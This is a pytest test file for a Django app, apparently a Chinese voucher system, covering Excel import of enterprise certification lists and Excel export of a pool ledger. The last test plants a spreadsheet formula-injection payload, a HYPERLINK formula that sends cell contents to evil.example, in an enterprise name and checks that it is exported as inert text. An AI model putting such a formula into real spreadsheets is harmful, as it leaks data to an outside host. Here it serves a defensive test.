"""Bureau staff bring certification lists in from Excel and take a pool's ledger out to Excel."""

import io
import zipfile
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import OrganisationFactory, staff_in
from zhouqiao.accounts.models import Duty
from zhouqiao.vouchers.models import Certification

pytestmark = pytest.mark.django_db


def _list_from_template(client, rows) -> io.BytesIO:
    """Fill the downloaded template the way a clerk would, and hand back the file."""
    book = load_workbook(io.BytesIO(client.get(reverse("vouchers:certification_template")).content))
    for row in rows:
        book["资质认定"].append(row)
    upload = io.BytesIO()
    book.save(upload)
    upload.seek(0)
    upload.name = "2026年高新技术企业名单.xlsx"
    return upload


def _import(client, upload) -> list[str]:
    """Upload the file; the messages the office page then shows."""
    response = client.post(reverse("vouchers:office_certification_import"), {"file": upload}, follow=True)
    assert response.redirect_chain == [(reverse("vouchers:office"), 302)]
    shown = [str(m) for m in response.context["messages"]]
    assert all(m in response.content.decode() for m in shown)
    return shown


def test_staff_import_a_certification_list_from_the_template(client, cc_staff, enterprise):
    other = OrganisationFactory(region_id="220106")
    client.force_login(cc_staff)
    upload = _list_from_template(
        client,
        [
            [enterprise.credit_code, "高新技术企业", "GR202622000123", date(2026, 1, 1), date(2028, 12, 31)],
            [other.credit_code.lower(), "科技型中小企业", "202622010600456", "2026-05-01", "2027-04-30"],
        ],
    )
    assert _import(client, upload) == ["已导入 2 条资质认定。"]
    rows = Certification.objects.order_by("organisation_id").values_list(
        "organisation_id", "kind", "number", "valid_from", "valid_until"
    )
    assert list(rows) == sorted(
        [
            (enterprise.pk, "high_tech", "GR202622000123", date(2026, 1, 1), date(2028, 12, 31)),
            (other.pk, "tech_sme", "202622010600456", date(2026, 5, 1), date(2027, 4, 30)),
        ]
    )


def test_a_bad_row_is_named_by_its_row_in_the_sheet_and_nothing_is_written(client, cc_staff, enterprise):
    client.force_login(cc_staff)
    upload = _list_from_template(
        client,
        [
            [enterprise.credit_code, "高新技术企业", "GR1", "2026-01-01", "2028-12-31"],
            ["91220104MA00000000", "高新技术企业", "GR2", "2026-01-01", "2028-12-31"],
        ],
    )
    (message,) = _import(client, upload)
    assert "未导入任何记录" in message and "第3行" in message and "统一社会信用代码未注册" in message
    assert not Certification.objects.exists()


def test_a_file_without_the_columns_or_from_outside_the_jurisdiction_changes_nothing(
    client, cc_staff, enterprise, other_city_staff
):
    client.force_login(cc_staff)
    wrong = io.BytesIO("企业名称,证书编号\n某公司,GR1\n".encode())
    wrong.name = "名单.csv"
    (message,) = _import(client, wrong)
    assert "缺少列" in message and "认定类型" in message
    client.force_login(other_city_staff)  # Jilin City staff, the enterprise is in Changchun
    upload = _list_from_template(
        client, [[enterprise.credit_code, "高新技术企业", "GR1", "2026-01-01", "2028-12-31"]]
    )
    (message,) = _import(client, upload)
    assert "第2行" in message and "只有属地审核人员可以登记企业资质" in message
    assert not Certification.objects.exists()


def test_the_single_certification_form_takes_the_credit_code(client, cc_staff, enterprise):
    client.force_login(cc_staff)
    client.post(
        reverse("vouchers:office_certification"),
        {
            "credit_code": enterprise.credit_code,
            "kind": "tech_sme",
            "number": "202622010400789",
            "valid_from": "2026-03-01",
            "valid_until": "2027-02-28",
        },
    )
    assert Certification.objects.get().organisation == enterprise


def test_the_pool_ledger_exports_every_movement_with_totals(client, cc_staff, pool, voucher, enterprise):
    client.force_login(cc_staff)
    response = client.get(reverse("vouchers:ledger_export", args=[pool.pk]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    detail = list(book["台账明细"].iter_rows(min_row=3, values_only=True))
    assert [(r[1], r[2], r[3], r[4]) for r in detail] == [
        ("预算下达", 30000000, None, None),
        ("发放", 20000, voucher.code, enterprise.name),
    ]
    totals = dict(book["汇总"].iter_rows(min_row=2, values_only=True))
    assert totals["预算下达"] == 30000000 and totals["发放"] == 20000
    assert totals["资金池可发放余额"] == 30000000 - 20000


def test_only_staff_of_the_pools_jurisdiction_export_its_ledger(
    client, pool, enterprise_user, other_city_staff, reference
):
    url = reverse("vouchers:ledger_export", args=[pool.pk])
    for outsider in (enterprise_user, other_city_staff, staff_in("220000", Duty.AUDIT_ADMIN)):
        client.force_login(outsider)
        assert client.get(url).status_code == 404


def test_the_list_format_stays_chinese_for_english_users_and_tolerates_what_excel_does(
    client, cc_staff, enterprise
):
    """An English page, a blank row, a number Excel made numeric, dates as Chinese Windows writes them."""
    other = OrganisationFactory(region_id="220106")
    client.force_login(cc_staff)
    client.post("/i18n/setlang/", {"language": "en"})
    upload = _list_from_template(
        client,
        [
            [enterprise.credit_code, "高新技术企业", "GR1", "2026/1/1", "2028年12月31日"],
            [None, None, None, None, None],
            [other.credit_code, "科技型中小企业", 202622010400789, "2026-05-01", "2027-04-30"],
        ],
    )
    assert _import(client, upload) == ["Imported 2 certifications."]
    assert Certification.objects.get(organisation=other).number == "202622010400789"
    assert Certification.objects.get(organisation=enterprise).valid_from == date(2026, 1, 1)


def test_an_error_after_a_blank_row_names_the_right_sheet_row(client, cc_staff, enterprise):
    client.force_login(cc_staff)
    upload = _list_from_template(
        client,
        [
            [enterprise.credit_code, "高新技术企业", "GR1", "2026-01-01", "2028-12-31"],
            [None] * 5,
            [enterprise.credit_code, "专精特新", "GR2", "2026-01-01", "2028-12-31"],
        ],
    )
    (message,) = _import(client, upload)
    assert "第4行" in message and "认定类型不正确" in message
    assert not Certification.objects.exists()


def test_a_credit_code_excel_turned_into_a_number_is_refused_with_the_reason(client, cc_staff):
    client.force_login(cc_staff)
    upload = _list_from_template(
        client, [[912201041234567890, "高新技术企业", "GR1", "2026-01-01", "2028-12-31"]]
    )
    (message,) = _import(client, upload)
    assert "第2行" in message and "被存成了数字" in message
    assert not Certification.objects.exists()


def test_a_damaged_workbook_is_refused_in_chinese(client, cc_staff):
    client.force_login(cc_staff)
    damaged = io.BytesIO()
    with zipfile.ZipFile(damaged, "w") as archive:
        archive.writestr("[Content_Types].xml", "not xml")
        archive.writestr("xl/workbook.xml", "not xml either")
    damaged.seek(0)
    damaged.name = "名单.xlsx"
    (message,) = _import(client, damaged)
    assert "文件已损坏或格式不正确" in message


def test_only_bureau_staff_may_upload_a_list(client, enterprise_user):
    client.force_login(enterprise_user)
    upload = io.BytesIO("统一社会信用代码\n".encode())
    upload.name = "x.csv"
    assert client.post(reverse("vouchers:office_certification_import"), {"file": upload}).status_code == 403


def test_text_from_users_is_exported_as_text_not_as_a_formula(client, cc_staff, pool, voucher, enterprise):
    enterprise.name = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    enterprise.save()
    client.force_login(cc_staff)
    book = load_workbook(io.BytesIO(client.get(reverse("vouchers:ledger_export", args=[pool.pk])).content))
    cell = book["台账明细"]["E4"]
    assert cell.data_type == "s" and cell.value.endswith('"点击")')
